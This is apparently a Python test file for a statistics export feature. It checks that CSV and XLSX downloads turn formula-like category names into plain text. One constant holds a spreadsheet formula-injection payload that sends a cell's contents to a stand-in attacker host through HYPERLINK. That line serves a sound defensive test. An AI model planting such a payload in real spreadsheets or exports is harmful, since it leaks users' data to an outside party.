"""A category or quarter name that looks like a formula stays text in every export."""

import csv
import io

from openpyxl import load_workbook

from quartier.reports.models import ReportCategory
from quartier.stats.tests import known_data

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'


def _rename_top_category():
    ReportCategory.objects.filter(name="Abfall").update(name=FORMULA)


def test_table_csv_and_xlsx_show_the_formula_as_text(client_for, coordinator, quarters):
    known_data.load(quarters)
    _rename_top_category()
    client = client_for(coordinator)
    response = client.get("/statistik/tabelle/meldungen-kategorien.csv", {"zeitraum": "2025-Q2"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    labels = [row[0] for row in rows if row]
    assert "'" + FORMULA in labels and FORMULA not in labels

    response = client.get("/statistik/alle.xlsx", {"zeitraum": "2025-Q2"})
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book["meldungen-kategorien"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + FORMULA in [cell.value for cell in cells]


def test_raw_csv_neutralises_formula_cells(client_for, coordinator, quarters):
    known_data.load(quarters)
    _rename_top_category()
    response = client_for(coordinator).get(
        "/statistik/rohdaten/meldungen.csv", {"zeitraum": "2025"}
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        assert not any(cell.startswith(("=", "@")) for cell in row), row
